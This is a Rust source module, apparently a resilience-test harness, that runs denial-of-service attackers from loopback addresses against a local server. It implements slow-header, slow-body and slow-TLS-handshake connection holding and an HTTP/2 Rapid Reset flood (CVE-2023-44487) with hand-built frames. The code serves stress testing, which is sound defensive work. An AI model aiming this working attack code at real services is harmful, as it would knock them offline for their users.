//! The attackers, on a thread of their own and from many addresses of this machine. Whoever is cut off comes again.

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread::{self, JoinHandle};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::runtime::Builder;
use tokio::sync::oneshot;
use tokio::time::{interval, sleep, timeout};

use super::SlowSettings;
use crate::carrier::{Carrier, Certificate, Stream, tcp_from};
use crate::failure::{Doing, Result};

/// Between two bytes that keep a request from ending.
const DRIP: Duration = Duration::from_secs(2);

/// Before somebody who was cut off comes again.
const PAUSE: Duration = Duration::from_secs(1);

/// Streams that one connection opens and resets, if it is let.
const STREAMS: u32 = 1_000;

/// How many attackers share an address.
const SHARE: usize = 250;

/// An attack under way.
pub(super) struct Attack {
    stop: oneshot::Sender<()>,
    thread: JoinHandle<()>,
    told: Arc<Told>,
}

/// What the attackers have done.
#[derive(Default)]
struct Told {
    /// Connections that are held.
    held: AtomicUsize,
    resets: AtomicUsize,
}

/// What every attacker knows.
#[derive(Clone)]
struct Target {
    address: SocketAddr,
    /// HTTP/1.1 and HTTP/2.
    carriers: [Carrier; 2],
    told: Arc<Told>,
}

impl Attack {
    /// Sends all of them.
    ///
    /// # Errors
    /// There is no thread for them.
    pub(super) fn begin(
        address: SocketAddr,
        certificate: &Certificate,
        settings: &SlowSettings,
    ) -> Result<Self> {
        let told = Arc::new(Told::default());
        let target = Target {
            address,
            carriers: [certificate.carrier("http/1.1")?, certificate.carrier("h2")?],
            told: Arc::clone(&told),
        };
        let runtime = Builder::new_current_thread().enable_all().build();
        let runtime = runtime.doing("starting attackers")?;
        let (stop, stopped) = oneshot::channel();
        let counts = [settings.heads, settings.bodies, settings.handshakes];
        let resets = settings.resets;
        let thread = thread::Builder::new().name("attackers".to_owned());
        let thread = thread.spawn(move || {
            runtime.block_on(async {
                target.send(counts);
                tokio::spawn(target.clone().reset_in_a_flood(resets));
                let _ = stopped.await;
            });
        });
        Ok(Self {
            stop,
            thread: thread.doing("starting attackers")?,
            told,
        })
    }

    /// Calls all of them off: how many connections they held, and how many streams they have reset.
    pub(super) fn end(self) -> (usize, usize) {
        let held = self.told.held.load(Ordering::Relaxed);
        let _ = self.stop.send(());
        let _ = self.thread.join();
        (held, self.told.resets.load(Ordering::Relaxed))
    }
}

/// How a connection is held.
#[derive(Clone, Copy)]
enum Grip {
    Head,
    Body,
    Handshake,
}

impl Target {
    fn send(&self, [heads, bodies, handshakes]: [usize; 3]) {
        let grips = [
            (Grip::Head, heads),
            (Grip::Body, bodies),
            (Grip::Handshake, handshakes),
        ];
        let all = grips
            .into_iter()
            .flat_map(|(grip, count)| std::iter::repeat_n(grip, count));
        for (number, grip) in all.enumerate() {
            tokio::spawn(self.clone().hold(grip, number));
        }
    }

    /// Takes a connection and holds it, again and again.
    async fn hold(self, grip: Grip, number: usize) {
        let spread = u32::try_from(number % 1_000).unwrap_or(0);
        // Not all at one moment, which would be another attack.
        sleep(Duration::from_millis(3) * spread).await;
        loop {
            // Being cut off is what they are here for.
            let _ = self.hold_once(grip, address(number / SHARE)).await;
            sleep(PAUSE).await;
        }
    }

    async fn hold_once(&self, grip: Grip, source: IpAddr) -> io::Result<()> {
        if let Grip::Handshake = grip {
            let mut stream = tcp_from(source, self.address).await?;
            let _held = Held::count(&self.told);
            // A hello that says it will be longer.
            stream
                .write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])
                .await?;
            return stream.read_u8().await.map(drop);
        }
        let [carrier, _] = &self.carriers;
        let stream = carrier.connect_from(source, self.address).await?;
        let _held = Held::count(&self.told);
        let (head, drop_of) = match grip {
            Grip::Body => (
                "POST /auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{",
                " ",
            ),
            _ => ("GET /auth/me HTTP/1.1\r\nHost: x\r\n", "X-A: b\r\n"),
        };
        drip(stream, head.as_bytes(), drop_of.as_bytes()).await
    }

    /// So many connections a second that open streams and reset each at once (CVE-2023-44487).
    async fn reset_in_a_flood(self, a_second: u32) {
        if a_second == 0 {
            return;
        }
        let mut pace = interval(Duration::from_secs(1) / a_second);
        for number in 0.. {
            pace.tick().await;
            tokio::spawn(self.clone().reset(address(100 + number % 50)));
        }
    }

    async fn reset(self, source: IpAddr) -> io::Result<()> {
        let [_, carrier] = &self.carriers;
        let mut stream = carrier.connect_from(source, self.address).await?;
        let mut flood = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
        for number in 0..STREAMS {
            open_and_reset(number * 2 + 1, &mut flood);
        }
        let resets = usize::try_from(STREAMS).unwrap_or(0);
        self.told.resets.fetch_add(resets, Ordering::Relaxed);
        stream.write_all(&flood).await?;
        let mut rest = Vec::new();
        let _ = timeout(Duration::from_secs(5), stream.read_to_end(&mut rest)).await;
        Ok(())
    }
}

/// Sends the beginning, then a drop at a time until it is cut off.
async fn drip(stream: Stream, head: &[u8], drop_of: &[u8]) -> io::Result<()> {
    let (mut reader, mut writer) = tokio::io::split(stream);
    writer.write_all(head).await?;
    writer.flush().await?;
    let mut pace = interval(DRIP);
    let mut answer = [0; 512];
    loop {
        tokio::select! {
            read = reader.read(&mut answer) => {
                if read? == 0 {
                    return Ok(());
                }
            }
            _ = pace.tick() => {
                writer.write_all(drop_of).await?;
                writer.flush().await?;
            }
        }
    }
}

/// HEADERS of a whole request, without compression, and RST_STREAM (RFC 9113).
fn open_and_reset(stream: u32, flood: &mut Vec<u8>) {
    const HEAD: &[u8] = b"\x82\x87\x84\x41\x01x";
    flood.extend_from_slice(&[0, 0, 6, 1, 5]);
    flood.extend_from_slice(&stream.to_be_bytes());
    flood.extend_from_slice(HEAD);
    flood.extend_from_slice(&[0, 0, 4, 3, 0]);
    flood.extend_from_slice(&stream.to_be_bytes());
    flood.extend_from_slice(&8_u32.to_be_bytes());
}

/// One of this machine's many.
fn address(number: usize) -> IpAddr {
    let last = u8::try_from(number % 250).unwrap_or(0);
    Ipv4Addr::new(127, 0, 1, 1 + last).into()
}

/// A connection that is counted for as long as it is held.
struct Held<'a>(&'a Told);

impl<'a> Held<'a> {
    fn count(told: &'a Told) -> Self {
        told.held.fetch_add(1, Ordering::Relaxed);
        Self(told)
    }
}

impl Drop for Held<'_> {
    fn drop(&mut self) {
        self.0.held.fetch_sub(1, Ordering::Relaxed);
    }
}
